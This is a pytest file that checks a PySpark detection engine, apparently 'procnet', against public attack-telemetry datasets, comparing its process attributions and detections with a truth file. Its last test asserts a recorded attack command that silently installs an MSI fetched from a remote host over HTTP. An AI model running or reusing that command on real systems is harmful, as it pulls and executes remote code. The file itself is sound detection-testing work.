"""The real records beside the checkout, through the whole path, compared with what is true in them."""

from __future__ import annotations

import contextlib
import importlib.util
import io
import json
import re
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
import yaml
from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from procnet.cli.output import plain
from procnet.detections.catalog import load_detections
from procnet.detections.detection import Detection
from procnet.engine.enrich import enrich
from procnet.engine.evaluate import evaluate
from procnet.engine.query import Query
from procnet.periods import Window
from procnet.settings import Settings, default_conf_dir
from procnet.sources.normalize import Normalized, normalize
from procnet.sources.read import read_raw
from procnet.sources.validate import load_source

SHARED = Path(__file__).resolve().parents[3] / "shared"
DATA, TRUTH = SHARED / "data", SHARED / "truth"
NOW = datetime(2026, 11, 1, tzinfo=timezone.utc)
EVER = Window(datetime(2015, 1, 1, tzinfo=timezone.utc), datetime(2027, 1, 1, tzinfo=timezone.utc))
WEB = {
    "id": "11111111-1111-4111-8111-111111111111", "name": "web", "version": 1,
    "status": "experimental", "description": "any process, web ports",
    "network": {"web": {"dest_port": [80, 443]}, "condition": "web"}, "lookback": "24h",
    "risk": {"score": 1, "message": "{process_name}", "objects": [{"field": "host", "type": "system"}]},
    "false_positives": "all", "misses": "nothing",
    "cases": [{"name": "c", "connections": [{"at": "10:00:00", "dest_port": 80}], "expect": "match"}],
}  # fmt: skip
ANY = {**WEB, "id": "22222222-2222-4222-8222-222222222222", "name": "any", "description": "any process, any port",
       "network": {"any": {"dest_port|gte": 0}, "condition": "any"}}  # fmt: skip

pytestmark = [
    pytest.mark.spark,
    pytest.mark.long,
    pytest.mark.records,
    pytest.mark.skipif(not (TRUTH / "truth.parquet").is_file(), reason="the real records are not beside the checkout"),
]


# Every format among the records, each read by its own source.
READ = {
    "eqllib": ["eqllib/sysmon-rta.json.gz"],
    "windows_flat": ["mordor_subset/mordor_flat", "splunk_attack_data/d45a6bed__*.tar.gz"],
    "winlogbeat6": ["mordor_subset/winlogbeat6"],
    "winlogbeat7": ["mordor_subset/winlogbeat7"],
    "windows_xml": ["splunk_attack_data"],
    "windows_message_csv": ["sysmon_ci_runners"],
    "evtx": ["splunk_attack_data", "ocsf_examples", "sigma_regression"],
    "evtx_json": ["sigma_regression"],
}


@pytest.fixture(scope="module")
def events(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> tuple[DataFrame, DataFrame]:
    """Returns process and network events of all sources; each file is parsed once."""
    folder = tmp_path_factory.mktemp("events")
    for name, paths in READ.items():
        source = load_source(name)
        normalized = normalize(read_raw(spark, source, [DATA / p for p in paths]), source, ingest_time=NOW)
        # Written to files, not cached: every plan over a cached frame carries all that made it.
        normalized.records.write.mode("append").parquet(str(folder))
    records = Normalized(spark.read.parquet(str(folder)), "all", NOW)
    return records.process_events, records.network_events.distinct()


def _score(rows: list[dict[str, Any]], tmp_path: Path) -> str:
    """What truth/score.py prints of findings of `web` and `any`."""
    spec = importlib.util.spec_from_file_location("score", TRUTH / "score.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    file = tmp_path / "findings.jsonl"
    file.write_text("\n".join(json.dumps(plain(r)) for r in rows))
    findings, truth = module.load(file, TRUTH / "truth.parquet")
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        module.score(findings, truth, list(truth.index), {WEB["id"]: "web", ANY["id"]: "any"})
    return out.getvalue()


@pytest.fixture(scope="module")
def found(events: tuple[DataFrame, DataFrame], tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
    """Findings of `any` and of all shipped detections, in one pass."""
    detections = [*load_detections(default_conf_dir() / "detections"), _written(ANY, tmp_path_factory.mktemp("any"))]
    query = Query(*events, detections, EVER, Settings())
    findings = evaluate(query).findings
    assert findings is not None
    return [r.asDict(recursive=True) for r in enrich(findings, query).collect()]


def _written(detection: dict[str, Any], folder: Path) -> Detection:
    file = folder / f"{detection['name']}.yml"
    file.write_text(yaml.safe_dump(detection))
    return load_detections([file])[0]


def test_every_process_named_is_right_and_none_is_missed(found: list[dict[str, Any]], tmp_path: Path) -> None:
    text = _score([r for r in found if r["detection_id"] == ANY["id"]], tmp_path)
    # None of 1,148 named processes is wrong. For 40 the truth has no start: Sysmon wrote those connections 3.3 to 4.9 s
    # after the end of their process, most without naming it, and they are attributed by `end_grace`.
    assert "{'connection only': 14463, 'right': 1108, 'start is not in the data': 40}" in text, text
    assert "recall 1.0000 (369/369 connections" in text, text
    assert "likely ones 447/447" in text, text


def test_on_web_ports_too(found: list[dict[str, Any]], tmp_path: Path) -> None:
    web = [r for r in found if r["detection_id"] == ANY["id"] and r["dest_port"] in (80, 443)]
    text = _score([{**r, "detection_id": WEB["id"]} for r in web], tmp_path)
    assert "precision 1.0000 (403/403)" in text, text
    assert "recall 1.0000 (193/193 connections" in text, text
    assert "likely ones 149/149" in text, text


def test_without_guids_what_is_named_is_right_still(events: tuple[DataFrame, DataFrame], tmp_path: Path) -> None:
    bare = [f.withColumn("process_guid", F.lit(None).cast("string")) for f in events]
    found = evaluate(Query(bare[0], bare[1], [_written(WEB, tmp_path)], EVER, Settings())).findings
    assert found is not None
    text = _score([r.asDict(recursive=True) for r in found.collect()], tmp_path)
    # The wrong one of 394: Message CSV has whole seconds, and two processes had one id within the same second.
    assert "precision 0.9975 (393/394)" in text, text
    assert "(185/193 connections" in text, text  # the other eight have no process id


def test_the_family_finds_what_is_there(found: list[dict[str, Any]], tmp_path: Path) -> None:
    """All shipped detections in one pass: every sure row of each, and no process that the truth contradicts."""
    rows = [r for r in found if r["detection_id"] != ANY["id"]]
    text = _score(rows, tmp_path)
    for name, sure, likely in (
        ("installutil", "2/2", "2/2"), ("installutil_uninstall", "2/2", "2/2"), ("lolbas_public", "5/5", "2/2"),
        ("kerberos_not_lsass", "1/1", "2/2"),
    ):  # fmt: skip
        (of_it,) = re.findall(rf"== {name}: .*\n.*", text)
        assert f"recall 1.0000 ({sure} connections" in of_it, text
        assert f"likely ones {likely}" in of_it, text
        assert "another process" not in of_it, text
    # The shipped detection finds none of it (it does not include port 8000), and none has the reused id 7764.
    installer = sorted((r for r in rows if "MSIExec" in r["detection_name"]), key=lambda r: r["event_time"])
    assert [(r["process_id"], r["dest_ip"], r["dest_port"], r["attribution"]) for r in installer] == [
        (1952, "192.168.162.135", 8000, "guid")
    ] * 2
    for finding in installer:
        client = finding["related"][0]
        assert (client["process_id"], client["role"]) == (3880, "client")
        assert client["process"] == "msiexec.exe /quiet /i http://192.168.162.135:8000/bin/Installer.msi"
